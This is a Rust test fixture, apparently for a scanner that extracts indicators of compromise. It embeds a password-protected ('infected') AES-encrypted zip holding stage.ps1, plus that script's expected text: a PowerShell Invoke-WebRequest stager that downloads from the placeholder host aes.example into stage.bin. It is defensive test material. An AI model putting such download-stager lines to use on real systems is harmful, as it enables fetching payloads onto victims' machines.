//! A zip archive after WinZip's fashion (AE-2, 256 bits) under the password `infected`. What
//! encrypts it salts it, so it is one that 7-Zip wrote, with the text that went into it.

use std::io;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::script::{Ioc, Kind, Script};

pub(super) const NAME: &str = "stage.ps1";

const ARCHIVE: &str = concat!(
    "UEsDBDMAAQBjAAAAIVAAAAAAXgAAAEIAAAAJAAsAc3RhZ2UucHMxAZkHAAIAQUUDAAARlJQlmGXbWzb44Vv2UbKx",
    "lPLDnag5BxOs58fTGGR+Vp+CkoQ3OVdAEfvxuK9jJUTH77HnTfVuPh5wC/5cIxNu31JaufU9RaMdzL58QTIOWCCt",
    "/oxbjkrqNOOpaVwqUEsBAj8DMwABAGMAAAAhUAAAAABeAAAAQgAAAAkALwAAAAAAAAAggKSBAAAAAHN0YWdlLnBz",
    "MQoAIAAAAAAAAQAYAAAABWk2wNUBAAAAAAAAAAAAAAAAAAAAAAGZBwACAEFFAwAAUEsFBgAAAAABAAEAZgAAAJAA",
    "AAAAAA==",
);

pub(super) fn archive() -> io::Result<Vec<u8>> {
    STANDARD.decode(ARCHIVE).map_err(io::Error::other)
}

/// What is in it.
pub(super) fn text() -> Script {
    Script::new("Invoke-WebRequest -Uri ")
        .ioc(Ioc::plain(Kind::Url, "http://aes.example/stage"))
        .text(" -OutFile stage.bin")
}
